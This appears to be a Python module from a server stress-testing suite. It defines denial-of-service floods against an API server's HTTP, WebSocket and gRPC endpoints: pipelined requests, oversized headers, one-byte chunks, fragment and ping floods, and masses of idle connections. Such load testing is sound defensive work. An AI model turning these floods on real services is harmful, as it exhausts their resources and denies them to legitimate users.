"""Attacks on connections: many small requests, chunks, frames, and connections themselves."""

import asyncio
from collections.abc import Callable
from functools import partial
from typing import Any, Final

from bench.attacks.attack import Attack, Target, connect, read_head, read_response

GET: Final = b"GET /health HTTP/1.1\r\nhost: localhost\r\n\r\n"
UPGRADE: Final = (
    b"GET /v1/responses HTTP/1.1\r\nhost: localhost\r\n"
    b"upgrade: websocket\r\nconnection: upgrade\r\n"
    b"sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
)
CHUNKED: Final = (
    b"POST %b HTTP/1.1\r\nhost: localhost\r\ncontent-type: %b\r\ntransfer-encoding: chunked\r\n"
)
FORM: Final = b"multipart/form-data; boundary=b"
PART: Final = (
    b'--b\r\ncontent-disposition: form-data; name="purpose"\r\n\r\nuser_data\r\n'
    b'--b\r\ncontent-disposition: form-data; name="file"; filename="a"\r\n\r\n'
)
CHAT, FILES, JSON = b"/v1/chat/completions", b"/v1/files", b"application/json"
CHUNK: Final = b"1\r\nx\r\n"
LARGE_HEAD: Final = b"GET /health HTTP/1.1\r\nhost: localhost\r\n" + b"a:\r\n" * 15_000 + b"\r\n"
GRPC_OPENING: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04" + bytes(5)
"""With empty SETTINGS."""
BLOCK_BYTES: Final = 2**17
"""Of one write."""
TEXT_FRAME, CONTINUATION_FRAME, PING_FRAME = 0x81, 0x00, 0x89
UNFINISHED_TEXT_FRAME: Final = 0x01


def frame(kind: int, payload: bytes = b"") -> bytes:
    """A frame of a client, masked with zeros. `kind` is its first byte."""
    size = len(payload)
    length = bytes((0x80 | size,)) if size < 126 else b"\xff" + size.to_bytes(8)
    return bytes((kind,)) + length + bytes(4) + payload


async def read_frame(reader: asyncio.StreamReader) -> None:
    """Read a frame of a server. Raises EOFError or OSError."""
    length = (await reader.readexactly(2))[1]
    if length >= 126:
        length = int.from_bytes(await reader.readexactly(2 if length == 126 else 8))
    await reader.readexactly(length)


Opening = Callable[[Target], bytes]


def with_key(head: bytes) -> Opening:
    """The bytes of a request with the key."""
    return lambda target: head + target.authorization + b"\r\n"


def without_key(head: bytes) -> Opening:
    """The bytes of a request without a key."""
    return lambda _: head + b"\r\n"


def nothing(_: Target) -> bytes:
    """No bytes."""
    return b""


async def flood(
    opening: Opening,
    unit: bytes,
    target: Target,
    *,
    awaits: bool = False,
    prefix: bytes = b"",
    reads: bool = True,
) -> None:
    """Send `opening`, read a head if `awaits`, send `prefix`, then the unit for ever. Unless it
    `reads`, the responses stay where they are."""
    block = unit * max(1, BLOCK_BYTES // len(unit))
    async with connect(target.http) as (reader, writer):
        writer.write(opening(target))
        if awaits:
            await read_head(reader)
        writer.write(prefix)
        async with asyncio.TaskGroup() as group:
            if reads:
                group.create_task(_read_to_end(reader))
            while True:
                writer.write(block)
                await writer.drain()


async def _read_to_end(reader: asyncio.StreamReader) -> None:
    while await reader.read(2**16):
        pass
    raise EOFError


async def keep_grpc_open(target: Target) -> None:
    """Open a connection of a gRPC client and send no call on it."""
    async with connect(target.grpc) as (reader, writer):
        writer.write(GRPC_OPENING)
        await _read_to_end(reader)


async def request_again(target: Target) -> None:
    """Send a request after each response, on one connection."""
    async with connect(target.http) as (reader, writer):
        while True:
            writer.write(GET)
            await read_response(reader)


async def connect_again(target: Target) -> None:
    """Send one request without a key on each connection."""
    for _ in range(100):
        async with connect(target.http) as (reader, writer):
            writer.write(CHUNKED % (CHAT, JSON) + b"\r\n")
            await read_head(reader)


def _floods(
    name: str,
    opening: Opening,
    unit: bytes,
    numbers: tuple[int, ...] = (1, 4, 8),
    **options: Any,
) -> list[Attack]:
    act = partial(flood, opening, unit, **options)
    return [Attack(f"{name}, {number} at once", act, number) for number in numbers]


def begun_file(target: Target) -> bytes:
    """An upload up to the bytes of its file."""
    head = with_key(CHUNKED % (FILES, FORM))(target)
    return head + b"%x\r\n%b\r\n" % (len(PART), PART)


SOCKET: Final = with_key(UPGRADE)
UNREAD: Final[dict[str, Any]] = {"awaits": True, "reads": False}
FRAGMENTS: Final[dict[str, Any]] = {"awaits": True, "prefix": frame(UNFINISHED_TEXT_FRAME)}
ATTACKS: Final = (
    *_floods("pipelined requests, unread", nothing, GET, reads=False),
    *_floods("pipelined requests", nothing, GET, (8,)),
    *_floods("pipelined large heads", nothing, LARGE_HEAD, (8,), reads=False),
    *_floods("chunks of a byte after 401", without_key(CHUNKED % (CHAT, JSON)), CHUNK),
    *_floods("chunks of a byte of a chat", with_key(CHUNKED % (CHAT, JSON)), CHUNK, (4,)),
    *_floods("chunks of a byte of a file", begun_file, CHUNK, (4,)),
    *_floods("empty fragments", SOCKET, frame(CONTINUATION_FRAME), **FRAGMENTS),
    *_floods("fragments of a byte", SOCKET, frame(CONTINUATION_FRAME, b" "), **FRAGMENTS),
    *_floods("pings", SOCKET, frame(PING_FRAME), awaits=True),
    *_floods("pings, unread", SOCKET, frame(PING_FRAME, bytes(125)), (4,), **UNREAD),
    *_floods("texts of a byte", SOCKET, frame(TEXT_FRAME, b"x"), (4,), awaits=True),
    *_floods("texts of a byte, unread", SOCKET, frame(TEXT_FRAME, b"x"), (4,), **UNREAD),
    *_floods("frames without a key", without_key(UPGRADE), frame(PING_FRAME), (8,)),
    Attack("requests, 64 at once", request_again, 64),
    Attack("connections, 16 at once", connect_again, 16),
    Attack("idle gRPC connections, 1022 at once", keep_grpc_open, 1022),
    Attack("idle gRPC connections, 1022 at once: a new client", keep_grpc_open, 1022, True),
)
